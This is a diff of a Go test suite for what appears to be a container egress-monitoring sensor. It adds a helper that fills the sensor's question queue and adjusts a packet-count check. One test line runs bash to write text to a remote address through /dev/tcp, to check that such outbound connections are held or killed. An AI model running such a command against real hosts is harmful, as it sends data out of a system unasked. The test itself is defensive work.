@@ -54,7 +54,7 @@ func (s *sensor) questions(t *testing.T) {
 	lost, to := 0, s.world.Raw(t)
 	var r rig.Result
 	s.unread(func() {
-		c.Run(t, connects(low+2*count, "question.text")...)
+		s.fills(t, c, low+2*count)
 		lost = s.counter(t, "lost_question")
 		s.policy(t, "hold: true\n")
 		r = c.Run(t, to.Egress("tcp")...)
@@ -66,9 +66,18 @@ func (s *sensor) questions(t *testing.T) {
 		t.Errorf("%d questions lost by one command", n-lost)
 	}
 	to.Nothing(t)
-	if n := s.world.Packets(t, at, low, low+3*count); n != 0 || s.world.Got("question.text") {
+	if n := s.world.Packets(t, at, low, low+4*count); n != 0 || s.world.Got("question.text") {
 		t.Errorf("%d packets of a tainted container arrived", n)
 	}
+}
+
+// fills leaves no room for a question while no reader goes on.
+func (s *sensor) fills(t *testing.T, c *rig.Session, from int) {
+	t.Helper()
+	taken := s.got.Load()
+	c.Run(t, connects(from, "question.text")...)
+	rig.Eventually(t, "the reader has made its last room", func() bool { return s.got.Load() > taken })
+	c.Run(t, connects(from+count, "question.text")...)
 }
 
 // review: with review: exec a command that there is no room to ask about is killed before it begins; with room again it is held.
@@ -78,10 +87,7 @@ func (s *sensor) review(t *testing.T) {
 	lost, to := 0, s.world.Raw(t)
 	var r rig.Result
 	s.unread(func() {
-		taken := s.got.Load()
-		c.Run(t, connects(low, "x")...)
-		rig.Eventually(t, "the reader has made its last room", func() bool { return s.got.Load() > taken })
-		c.Run(t, connects(low, "x")...)
+		s.fills(t, c, low)
 		lost = s.counter(t, "lost_question")
 		s.policy(t, "review: exec\n")
 		r = c.Run(t, "bash", "-c", "touch "+mark+"; echo "+to.Text+" >/dev/tcp/"+strings.ReplaceAll(to.To, ":", "/"))
